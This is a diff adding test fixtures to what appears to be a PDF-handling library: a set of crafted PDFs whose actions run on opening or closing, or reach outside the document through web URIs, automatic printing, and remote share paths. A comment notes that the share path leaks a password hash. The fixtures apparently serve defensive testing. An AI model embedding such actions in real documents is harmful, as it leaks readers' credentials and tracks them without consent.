@@ -112,6 +112,27 @@ def written(catalog: str, *more: str) -> Pdf:
     return Pdf(made + (table + trailer).encode())
 
 
+_OUTSIDE = "https://example.org/a"
+_SHARE = r"\\\\10.0.0.1\\a\\b.pdf"
+"""A path of another computer, as a string of a PDF has it: whoever opens it gives away a name and a password's hash."""
+REACHING = {
+    "a page of the web at once": written(f"/OpenAction << /S /URI /URI ({_OUTSIDE}) >>"),
+    "by another object": written("/OpenAction 4 0 R", f"<< /S /URI /URI ({_OUTSIDE}) >>"),
+    "printed at once": written("/OpenAction << /S /Named /N /Print >>"),
+    "first a place, then more": written("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>"),
+    "when it is closed": written(f"/AA << /WC << /S /URI /URI ({_OUTSIDE}) >> >>"),
+    "in what a library passes over": written(f"/Junk xyz /OpenAction << /S /URI /URI ({_OUTSIDE}) >>"),
+    "a file of another computer": written(f"/A << /S /GoToR /F ({_SHARE}) /D [0 /Fit] >>"),
+    "a link into the network": written(f"/A << /S /URI /URI ({_SHARE}) >>"),
+    "a link to a file": written("/A << /S /URI /URI (file://10.0.0.1/a/b.pdf) >>"),
+    "bytes of another file": written("", f"<< /Length 0 /F ({_SHARE}) >>\nstream\n\nendstream"),
+    "bytes of the web": written("", f"<< /Length 0 /F << /FS /URL /F ({_OUTSIDE}) >> >>\nstream\n\nendstream"),
+    "a file's name": written("/A 4 0 R", f"<< /Type /Filespec /F ({_SHARE}) >>"),
+    "a file by its other name": written("/A 4 0 R", f"<< /Type /Filespec /UF ({_SHARE}) >>"),
+}
+"""What begins by itself or reaches out of the document."""
+
+
 def that_takes_long(streams: int) -> Pdf:
     """A few kilobytes, packed: in each stream of objects a string of 8 MB."""
     made = []
